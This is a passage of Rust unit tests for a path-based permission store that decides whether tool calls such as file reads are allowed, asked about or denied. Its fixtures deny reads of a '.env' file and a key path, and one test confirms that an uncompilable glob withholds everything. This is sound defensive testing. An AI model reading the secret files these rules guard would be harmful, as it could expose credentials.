            ("deep/er/.env", Some(Permission::Deny)),
            ("link/key", Some(Permission::Deny)),
            ("drafts/a", Some(Permission::Ask)),
            ("notes/a", None),
            ("src/main.rs", None),
        ] {
            assert_eq!(read.judge(p), want, "{p}");
            let decided = store.decide("read", &path(p));
            assert_eq!(
                want.unwrap_or(Permission::Allow),
                decided,
                "{p}: judged as a call is decided"
            );
        }
        assert_eq!(
            store.path_rules("other", "path").judge("notes/a"),
            Some(Permission::Deny)
        );
        assert!(store.path_rules("read", "file").is_empty(), "another field");
        let mut broken = PermissionStore::new(Permission::Allow);
        broken.configure(rule("read", glob(&"*a".repeat(500_000)), Permission::Deny));
        assert_eq!(
            broken.path_rules("read", "path").judge("src/a.rs"),
            Some(Permission::Deny),
            "a glob that cannot be compiled withholds everything"
        );
    }

    #[derive(Debug, Default)]
    struct Saved(Mutex<Vec<Vec<PermissionRule>>>);

    impl SaveRules for Saved {
        fn save(&self, rules: &[PermissionRule]) -> Result<(), PermissionStoreError> {
            self.0.lock().unwrap().push(rules.to_vec());
            Ok(())
        }
    }

    #[test]
    fn a_save_hands_over_only_what_the_store_learned() {
        let saver = Arc::new(Saved::default());
        let opened = vec![rule("old", None, Permission::Allow)];
        let mut store = PermissionStore::with_saved(opened, Permission::Ask, saver.clone());
        store.remember("a", Permission::Allow).unwrap();
        store.remember("a", Permission::Deny).unwrap();
        let saves = saver.0.lock().unwrap().clone();
        assert_eq!(
            saves,
            vec![
                vec![rule("a", None, Permission::Allow)],
                vec![rule("a", None, Permission::Deny)]
            ]
        );
        assert_eq!(
            store.rules(),
            &[
                rule("old", None, Permission::Allow),
                rule("a", None, Permission::Deny)
            ]
        );
    }
}
